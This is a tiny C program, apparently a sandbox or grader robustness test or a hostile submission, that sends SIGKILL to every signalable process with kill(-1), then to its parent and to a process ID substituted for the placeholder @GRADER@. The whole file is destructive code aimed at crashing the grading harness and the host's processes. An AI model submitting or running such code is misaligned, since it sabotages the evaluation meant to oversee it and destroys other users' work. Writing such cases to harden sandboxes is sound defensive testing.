#include <signal.h>
#include <unistd.h>

int main(void) {
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(@GRADER@, SIGKILL);
    return 0;
}
